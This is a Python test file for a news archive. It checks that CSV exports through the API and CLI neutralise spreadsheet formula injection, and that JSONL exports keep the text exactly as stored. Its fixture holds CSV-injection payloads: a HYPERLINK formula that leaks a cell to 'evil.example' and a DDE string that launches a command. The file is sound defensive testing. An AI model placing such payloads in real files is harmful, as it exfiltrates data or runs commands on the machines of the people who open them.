"""Exports that are safe to open: a CSV cell a spreadsheet would run as a formula gets a
leading `'` (OWASP, "CSV Injection"), through the API and the CLI; JSONL keeps every byte."""

import csv
import io
import json
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from app.cli import export as cli_export
from app.config import Settings
from app.exporting import CSV_COLUMNS
from app.repositories import Filters

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?leak="&B2,"Read more")',
    "body": "-1+1 is how the story starts.\n\nThen it goes on.",
    "source": "@SUM(1+1)",
    "authors": ["+cmd|' /C calc'!A0", "Ann Lee"],
    "tags": ["=1+1", "politics"],
    "description": "\t=2+2",
    "url": "https://news.example/story",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_inert(row: dict[str, str], stored: dict[str, Any]) -> None:
    """No cell starts like a formula; the hostile ones are the stored text behind a `'`."""
    assert not [cell for cell in row.values() if cell.startswith(TRIGGERS)]
    assert row["headline"] == "'" + stored["headline"]
    assert row["body"] == "'" + stored["body"]
    assert row["source"] == "'" + stored["source"]
    assert row["authors"] == "'" + "; ".join(stored["authors"])
    assert row["tags"] == "'" + "; ".join(stored["tags"])
    assert row["url"] == stored["url"]  # harmless cells are left alone


def test_csv_export_neutralises_formulas(client: TestClient) -> None:
    stored = client.post("/v1/articles", json=HOSTILE).json()
    assert stored["headline"].startswith("=")  # the archive keeps the text as it came
    response = client.get("/v1/export", params={"format": "csv"})
    [row] = csv_rows(response.text)
    assert list(row) == CSV_COLUMNS
    assert_inert(row, stored)


def test_cli_csv_export_neutralises_formulas(
    client: TestClient, settings: Settings, tmp_path: Path
) -> None:
    stored = client.post("/v1/articles", json=HOSTILE).json()
    out = tmp_path / "archive.csv"
    assert cli_export(settings, out, "csv", Filters(), progress=False) == 1
    [row] = csv_rows(out.read_text(encoding="utf-8"))
    assert_inert(row, stored)


def test_jsonl_export_keeps_the_text_exact(client: TestClient) -> None:
    stored = client.post("/v1/articles", json=HOSTILE).json()
    [line] = client.get("/v1/export", params={"format": "jsonl"}).text.splitlines()
    exported = json.loads(line)
    for field in ("headline", "body", "source", "authors", "tags", "description", "url"):
        assert exported[field] == stored[field]
